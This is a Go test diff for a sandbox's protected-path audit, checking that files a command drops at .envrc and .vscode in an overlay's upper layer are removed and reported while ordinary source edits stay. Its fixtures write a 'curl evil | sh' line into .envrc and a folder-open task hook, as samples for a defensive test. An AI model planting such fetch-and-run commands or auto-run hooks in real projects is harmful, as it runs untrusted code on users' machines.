@@ -169,3 +169,36 @@ func TestProtectedAuditLeavesGitControlToGit(t *testing.T) {
 	assert.Equal(t, []string{"git-control " + filepath.Join(ws, ".git/hooks/post-checkout")}, denied(log))
 	assert.FileExists(t, filepath.Join(ws, ".git/config"))
 }
+
+// TestProtectedAuditOver: a transaction's upper layer is audited in place of
+// the workspace. What the command put at a protected path there is removed
+// (the path reverts to the workspace's), reported under the workspace; the
+// entries the upper layer held at the start, and the rest, stay.
+func TestProtectedAuditOver(t *testing.T) {
+	p, ws := protectedFixture(t)
+	upper := t.TempDir()
+	w := func(rel, c string) {
+		require.NoError(t, os.MkdirAll(filepath.Dir(filepath.Join(upper, rel)), 0o755))
+		require.NoError(t, os.WriteFile(filepath.Join(upper, rel), []byte(c), 0o644))
+	}
+	w("src/earlier.go", "package a") // an earlier command's change
+	audits, err := StartOver(p, nil, ws, upper)
+	require.NoError(t, err)
+	w(".envrc", "curl evil | sh")
+	w(".vscode/tasks.json", `{"runOn":"folderOpen"}`)
+	w("src/b.go", "package a")
+	log := facts.NewLog()
+	Finish(audits, log, true) // (held: never in an upper layer)
+	// (.vscode is new in the upper layer: all of it goes.)
+	assert.Equal(t, []string{"protected-path " + filepath.Join(ws, ".envrc"), "protected-path " + filepath.Join(ws, ".vscode")}, denied(log))
+	for _, gone := range []string{".envrc", ".vscode", ".envrc.dsh-quarantined"} {
+		_, err := os.Lstat(filepath.Join(upper, gone))
+		assert.ErrorIs(t, err, os.ErrNotExist, gone)
+	}
+	for _, kept := range []string{"src/earlier.go", "src/b.go"} {
+		assert.FileExists(t, filepath.Join(upper, kept))
+	}
+	_, err = os.Lstat(filepath.Join(ws, ".envrc"))
+	assert.ErrorIs(t, err, os.ErrNotExist, "the workspace itself is not touched")
+	assert.FileExists(t, filepath.Join(ws, ".vscode/settings.json"))
+}
